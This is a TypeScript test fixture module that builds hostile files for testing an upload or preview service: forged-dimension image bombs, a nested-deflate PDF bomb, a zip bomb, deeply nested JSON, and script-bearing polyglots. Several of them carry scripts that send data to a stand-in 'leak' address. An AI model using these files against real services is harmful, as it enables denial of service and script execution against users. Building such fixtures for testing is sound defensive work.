/** Files that are made to do harm: to take all memory, to run, to reach the network, or to be taken for something else. */
import { deflateSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { PNG } from 'pngjs';
import { pdfOf } from './pdfs';
import { movieOf } from './recordings';
import { jpegWith, plainJpeg, withMarkedCorner } from './turned-pictures';

const script = 'document.title = "ran"; fetch("https://example.com/leak"); alert("ran")';

/** A picture of a few bytes that says it is of 60,000 by 60,000 px. */
function pictureBomb(): Buffer {
  const png = PNG.sync.write(new PNG({ width: 4, height: 4 }));
  png.writeUInt32BE(60_000, 16);
  png.writeUInt32BE(60_000, 20);
  // With its checksum put right it is taken at its word.
  png.writeUInt32BE(checksum(png.subarray(12, 29)), 29);
  return png;
}

/** A picture that says the same of itself, behind more of what decoders pass over than anybody reads at first. */
function paddedBomb(): Buffer {
  const photo = plainJpeg(withMarkedCorner(8, 8));
  const frame = photo.indexOf(Buffer.from([0xff, 0xc0]));
  photo.writeUInt16BE(60_000, frame + 5);
  photo.writeUInt16BE(60_000, frame + 7);
  const padding = Buffer.alloc(65_537);
  padding.writeUInt32BE(0xffe2ffff, 0);
  return jpegWith(photo, ...Array.from({ length: 6 }, () => padding));
}

/** A GIF of one point, of which the first frame is of 60,000 by 60,000 px: windows make room for it. */
function frameBomb(): Buffer {
  const screen = Buffer.from('GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff', 'latin1');
  const frame = Buffer.from([0x2c, 0, 0, 0, 0, 0x60, 0xea, 0x60, 0xea, 0, 2, 2, 0x4c, 1, 0, 0x3b]);
  return Buffer.concat([screen, frame]);
}

function checksum(bytes: Uint8Array): number {
  let sum = 0xffffffff;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = sum & 1 ? (sum >>> 1) ^ 0xedb88320 : sum >>> 1;
  }
  return (sum ^ 0xffffffff) >>> 0;
}

/** A page as long as the sky, with more pages than there are, that would open an address and run a script. */
function pdfThatActs(): Buffer {
  const action = `/OpenAction << /S /JavaScript /JS (app.alert\\('ran'\\); this.submitForm\\('https://example.com/leak'\\)) >>`;
  const text = pdfOf(['检验报告']).toString('latin1').replace('/Type /Catalog', `/Type /Catalog ${action}`);
  return Buffer.from(text.replace('[0 0 595 842]', '[0 0 595 9e9]').replace('/Count 1', '/Count 999999999'), 'latin1');
}

/** A PDF whose page unpacks to a gigabyte. */
function pdfBomb(): Buffer {
  const inner = deflateSync(Buffer.alloc(64 * 1024 * 1024));
  const outer = deflateSync(inner);
  const stream = `<< /Length ${outer.length} /Filter [/FlateDecode /FlateDecode] >>\nstream\n${outer.toString('latin1')}\nendstream`;
  const text = pdfOf(['检验报告']).toString('latin1');
  return Buffer.from(
    text.replace(/<< \/Length[\s\S]*?endstream/, () => stream),
    'latin1',
  );
}

export interface HostileFile {
  name: string;
  content: Buffer;
}

export const hostileFiles: readonly HostileFile[] = [
  { name: 'bomb.png', content: pictureBomb() },
  { name: 'padded.jpg', content: paddedBomb() },
  { name: 'frame.gif', content: frameBomb() },
  { name: 'cut.jpg', content: Buffer.from('ffd8ffe000104a46494600010100000100010000ffdb004300', 'hex') },
  {
    name: 'drawing.svg',
    content: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`),
  },
  {
    name: 'page.html',
    content: Buffer.from(`<!doctype html><img src="https://example.com/x.png"><script>${script}</script>`),
  },
  // A GIF that is a script too, and a picture's name over a page.
  { name: 'both.gif', content: Buffer.from(`GIF89a/*\x01\x00\x01\x00*/=1;${script}`, 'latin1') },
  { name: 'page.png', content: Buffer.from(`<html><script>${script}</script></html>`) },
  { name: 'acts.pdf', content: pdfThatActs() },
  { name: 'bomb.pdf', content: pdfBomb() },
  { name: 'both.pdf', content: Buffer.concat([pdfOf(['x']), Buffer.from(zipSync({ 'a.html': strToU8(script) }))]) },
  { name: 'film.mp4', content: Buffer.concat([movieOf('avc1', 30).subarray(0, 300), Buffer.alloc(4000, 0xff)]) },
  {
    name: 'film.webm',
    content: Buffer.concat([Buffer.from('1a45dfa3', 'hex'), Buffer.from('webm'), Buffer.alloc(4000, 0x7f)]),
  },
  { name: 'sound.mp3', content: Buffer.concat([Buffer.from('ID3'), Buffer.alloc(4000, 0xff)]) },
  { name: 'deep.json', content: Buffer.from('['.repeat(2_000_000)) },
  { name: 'many.zip', content: Buffer.from(zipSync({ 'zeros.bin': new Uint8Array(50 * 1024 * 1024) })) },
];
